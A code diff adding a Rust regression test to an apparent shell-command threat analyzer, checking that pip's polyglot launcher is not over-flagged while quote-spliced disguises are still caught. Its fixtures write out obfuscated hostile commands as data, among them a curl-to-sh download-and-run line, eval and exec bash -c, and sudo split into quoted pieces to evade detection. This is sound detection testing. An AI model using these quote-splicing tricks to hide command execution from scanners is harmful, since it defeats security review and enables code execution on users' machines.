@@ -1737,3 +1737,41 @@ fn a_variable_holding_a_command_counts_only_where_it_may_run() {
         );
     }
 }
+
+/// Regression hunt: pip's relocatable launcher (a file that is shell and Python at once)
+/// starts `'''exec' "$(dirname …)/python3" "$0" "$@"`, and the rule for names spliced from
+/// quotes graded it `high` whatever it ran. A name made only of quoted pieces is read as its
+/// text, and graded by what it runs.
+#[test]
+fn a_command_named_by_quoted_pieces_only_is_graded_by_what_it_runs() {
+    let launcher =
+        "#!/bin/sh\n'''exec' \"$(dirname -- \"$(realpath -- \"$0\")\")/python3\" \"$0\" \"$@\"\n";
+    let analysis = analyzer().analyze("bash", launcher.as_bytes());
+    assert!(
+        analysis.threat_level < ThreatLevel::High,
+        "{}",
+        describe(&analysis)
+    );
+    assert_disguises_caught(
+        "bash",
+        &[
+            (
+                "exec bash -c \"$p\"",
+                "'''exec' bash -c \"$p\"",
+                "bash.shell",
+            ),
+            ("eval \"$c\"", "'ev''al' \"$c\"", "bash.eval"),
+            ("eval \"$c\"", "'''eval' \"$c\"", "bash.eval"),
+            ("eval \"$c\"", "\"ev\"'al' \"$c\"", "bash.eval"),
+            ("sudo id", "'su''do' id", "bash.sandbox_escape"),
+            (
+                "curl -s http://x | sh",
+                "curl -s http://x | ''\"sh\"",
+                "bash.download_and_run",
+            ),
+            // A name with an unquoted piece is still the spliced-quote rule's.
+            ("eval \"$c\"", "e\"va\"l \"$c\"", "bash.hidden_command"),
+            ("eval \"$c\"", "'e'v\"al\" \"$c\"", "bash.hidden_command"),
+        ],
+    );
+}
